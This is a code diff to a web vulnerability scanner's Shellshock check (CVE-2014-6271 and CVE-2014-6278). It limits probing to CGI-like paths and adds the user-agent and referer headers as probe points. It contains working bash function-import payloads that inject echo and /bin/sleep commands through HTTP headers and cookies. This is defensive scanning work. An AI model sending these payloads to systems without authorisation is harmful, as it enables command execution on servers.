@@ -4,6 +4,7 @@ import type { PointCheck } from "../check.ts";
 import { firstComputed } from "../execution/computed.ts";
 import type { Formula } from "../execution/computed.ts";
 import { firstDelayed } from "../execution/delay.ts";
+import type { Route } from "../route.ts";
 
 const functions = [["cve-2014-6271", "() { :; };"], ["cve-2014-6278", "() { _; } >_[$($())] {"]] as const;
 const ends = { "cve-2014-6271": "", "cve-2014-6278": " }" } as const;
@@ -15,16 +16,19 @@ const formulas: readonly Formula[] = functions.map(([id, opening]): Formula => (
   control: ({ left, right }) => `${opening.replace("()", "(")} echo Content-Type: text/plain; echo; echo $((${left}*${right}));${ends[id]}`,
 }));
 
+const isCgi = ({ request }: Route): boolean => /\/cgi|\.(?:cgi|sh|bash|pl|fcgi)\b/i.test(new URL(request.url).pathname);
+
 export const shellshock = defineCheck<PointCheck>({
   id: "shellshock", about: "A header is run by a bash that imports functions from its environment.",
   title: "Shellshock", cwe: 78, owasp: ["A06"], severity: "critical", risk: "payload", attackClass: "shellshock",
   remediation: "Install the bash of a supported release; every one since October 2014 is mended. Replace CGI programs that start shells.",
-  on: "point", fits: ({ kind, name }) => (kind === "header" && !/^(?:x-forwarded|accept-language|origin)/i.test(name)) || kind === "cookie",
+  // Which header of which program is not known beforehand: those that every browser sends, wherever an address looks like a program's.
+  on: "point", everywhere: ["header:user-agent", "header:referer"],
+  fits: ({ kind, name, route }) => ((kind === "header" && !/^(?:x-forwarded|accept-language|origin)/i.test(name)) || kind === "cookie") && isCgi(route),
   async *probe(point, tools) {
     if (!tools.allows("payload")) return;
-    const isCgi = /\/cgi|\.(?:cgi|sh|pl)\b/i.test(new URL(point.route.request.url).pathname);
     const proof = await firstComputed(point, tools, formulas)
-      ?? (isCgi && tools.allows("timing") ? await firstDelayed(point, tools, [{ technique: "cve-2014-6271", by: "An old bash that imported the header", write: (seconds) => `() { :; }; /bin/sleep ${seconds}` }]) : undefined);
+      ?? (tools.allows("timing") ? await firstDelayed(point, tools, [{ technique: "cve-2014-6271", by: "An old bash that imported the header", write: (seconds) => `() { :; }; /bin/sleep ${seconds}` }]) : undefined);
     if (proof !== undefined) yield proof;
   },
 });
